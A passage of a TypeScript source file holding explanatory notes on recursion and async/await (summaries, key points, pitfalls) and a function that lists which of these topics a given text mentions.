      ["Memoisation", "caching results of repeated calls turns exponential recursions, like naive Fibonacci, into linear ones."],
    ],
    kind: "a function defined in terms of itself",
    goodFor: "trees, parsers, divide and conquer",
    watchOut: "stack overflows and repeated work",
    more: [
      "A classic example is walking a directory tree: list a folder, and for each sub-folder call the same function. The code mirrors the shape of the data, which is why recursive solutions for nested structures are often the shortest and clearest.",
      "The cost is the call stack. Python stops at about a thousand nested calls by default, and JavaScript engines at a few thousand to tens of thousands, so recursion over long lists or deep inputs should become a loop with an explicit stack.",
      "Naive recursion can also repeat work exponentially: `fib(n) = fib(n-1) + fib(n-2)` recomputes the same values again and again. Memoising results or iterating bottom-up fixes it, and is worth checking whenever a recursive function calls itself more than once.",
    ],
  },
  {
    id: "async",
    match: /\basync(?:hronous)?\b|\bawait\b|\bpromises?\b|\bconcurrency\b/i,
    name: "async/await",
    short: "async/await",
    summary:
      "`async`/`await` is syntax for asynchronous code that reads like synchronous code: an `async` function returns a promise, and `await` pauses it until another promise settles, without blocking the thread. " +
      "JavaScript, Python, C#, Rust and others all have a version of it.",
    points: [
      ["Non-blocking", "while one task waits for I/O, the event loop runs others."],
      ["Errors", "a rejected promise throws at the `await`, so `try`/`catch` works as usual."],
      ["Concurrency", "start several operations, then await them together (`Promise.all`, `asyncio.gather`)."],
      ["Cancellation", "pass an `AbortSignal` (or cancel the task) so abandoned work actually stops."],
    ],
    kind: "syntax for non-blocking code",
    goodFor: "network and file I/O, servers handling many connections",
    watchOut: "forgotten awaits, unhandled rejections, accidental sequential waits",
    more: [
      "Under the hood an async function is a state machine: each `await` is a point where it can be suspended and later resumed when the awaited promise settles. The thread is free in between, which is how one Node.js process serves thousands of connections.",
      "A frequent performance mistake is awaiting independent operations one after another. Starting them first and awaiting them together with `Promise.all` runs them concurrently, often cutting the total time to that of the slowest operation.",
      "Async code still needs discipline around errors and lifetimes: always handle rejections, set timeouts on network calls, and wire cancellation through, so that when a user leaves, the request, the database query and the model stream behind it all stop too.",
    ],
  },
];

/** Every topic mentioned, in the order the text mentions them. */
export function topicsIn(text: string): TopicNote[] {
  const found: Array<{ note: TopicNote; at: number }> = [];
  for (const note of topics) {
    const at = text.search(note.match);
    if (at >= 0) found.push({ note, at });
  }
  // "streaming" also matches inside "server-sent events streaming": keep the more specific, earlier-listed note
  return found
    .sort((a, b) => a.at - b.at)
    .map((f) => f.note)
    .filter((note, i, all) => !(note.id === "http" && all.some((n) => n.id === "rest")));
}
